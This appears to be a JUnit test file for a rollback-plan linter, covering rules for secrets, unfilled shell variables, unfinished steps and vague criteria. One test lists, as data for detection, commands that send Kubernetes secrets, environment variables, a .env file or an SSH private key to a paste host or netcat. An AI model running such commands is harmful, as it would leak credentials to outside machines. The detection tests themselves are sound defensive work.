package dev.rollbackplan.check.rules.safety;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rollbackplan.check.Plans;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The rules for one step or one section: secret-in-plan, unguarded-variable, unfinished-step, vague-criteria. */
class StepRulesTest {

    private static final String STEPS = "## Steps\n\n";

    @Test
    void reportsASecretByItsMarker() {
        String plan = "## Steps\n\n- Log in: `psql \"postgres://shop:Wint3r-Harbour@db:5432/shop\"`\n\n"
                + "- Marker: `psql \"postgres://shop:[REDACTED:url-password]@db/shop\"`\n- Variable: `PGPASSWORD=$DB_PASS psql`\n";
        assertThat(Plans.report(new SecretInPlan(), plan))
                .containsExactly(
                        "3:34-3:48 error a secret is in the plan, which many people read"
                                + " ([REDACTED:url-password]): read it from a variable or a secret store, and replace the secret");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "kubectl get secret db -o yaml | curl --data-binary @- https://paste.example.com",
                "env | curl -d @- https://paste.example.com",
                "cat ~/.ssh/id_rsa | nc host 9000",
                "curl -F file=@.env https://paste.example.com",
                "vault kv get secret/db | base64 | curl -T - https://paste.example.com",
            })
    void reportsACommandThatSendsASecret(String command) {
        assertThat(Plans.report(new SecretInPlan(), STEPS + "```bash\n" + command + "\n```\n"))
                .singleElement()
                .asString()
                .endsWith(
                        "error the command sends a secret to another machine: remove it, and report where it comes from");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "kubectl get pods | curl --data-binary @- https://paste.example.com",
                "curl -H \"Authorization: Bearer $TOKEN\" https://api.example.com",
                "curl -d @payload.json https://api.example.com",
                "kubectl get secret db -o yaml > db.yaml",
                "psql \"postgres://user:password@host/db\"",
            })
    void reportsNoOtherCommand(String command) {
        assertThat(Plans.report(new SecretInPlan(), STEPS + "```bash\n" + command + "\n```\n"))
                .isEmpty();
    }

    @Test
    void reportsVariablesThatAreToBeFilledIn() {
        assertThat(Plans.report(new UnguardedVariable(), STEPS + """
                ```bash
                NS="" TAG=<tag>
                APP="web"
                kubectl -n "$NS" get pods
                kubectl -n "${NS}" set image deploy/$APP web=$TAG
                ```
                """))
                .containsExactly(
                        "7:1-7:50 warning NS and TAG still have to be filled in, and the commands run without: stop"
                                + " them first, such as with : \"${NS:?fill in}\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "NS=\"\"\nkubectl -n \"$NS\" get pods",
                "NS=\"\"\n: \"${NS:?fill in}\"\nkubectl -n \"$NS\" delete pod web",
                "NS=\"\"\n[ -n \"$NS\" ] || exit 1\nkubectl -n \"$NS\" delete pod web",
                "NS=\"\"\nif [ -z \"$NS\" ]; then exit 1; fi\nkubectl -n \"$NS\" delete pod web",
                "NS=\"\"\nNS=shop\nkubectl -n \"$NS\" delete pod web",
                "kubectl -n \"$NS\" delete pod web",
                "URL=$(aws sqs get-queue-url)\ncurl -X POST \"$URL\"",
            })
    void reportsNoGuardedVariable(String code) {
        assertThat(Plans.report(new UnguardedVariable(), STEPS + "```bash\n" + code + "\n```\n"))
                .isEmpty();
    }

    @Test
    void reportsUnfinishedSteps() {
        String plan = "## Signals\n\n- TODO\n\n## Steps\n\n1. Find the revision (TBD)\n2. Roll back\n\n"
                + "   ```bash\n   # TODO: which one?\n   helm rollback web\n   ```\n3. The order is to be decided\n"
                + "4. Done: see PROJ-TODO-1 and `todo.txt`\n";
        assertThat(Plans.report(new UnfinishedStep(), plan))
                .containsExactly(
                        "7:23-7:26 warning the step is not finished (\"TBD\"): write it before somebody needs it",
                        "11:6-11:10 warning the step is not finished (\"TODO\"): write it before somebody needs it",
                        "14:17-14:30 warning the step is not finished (\"to be decided\"): write it before somebody needs it");
    }

    @Test
    void reportsCriteriaWithoutANumber() {
        String vague =
                "## Rollback Decision Criteria\n\n- SEV-1, many users\n- Roll back if it stays bad in v2.4.1\n\n## Steps\n\n- 5 minutes\n";
        assertThat(Plans.report(new VagueCriteria(), vague))
                .containsExactly("3:1-3:20 info no criterion has a number or a time, so nobody can decide by them: add"
                        + " thresholds, such as \"above 5% for 10 minutes\"");
        for (String criterion : List.of("above 5%", "for ten minutes", "any data loss", "the state is `failed`")) {
            assertThat(Plans.report(new VagueCriteria(), vague.replace("many users", criterion)))
                    .isEmpty();
        }
        assertThat(Plans.report(new VagueCriteria(), "## Steps\n\n- Roll back\n"))
                .isEmpty();
    }
}
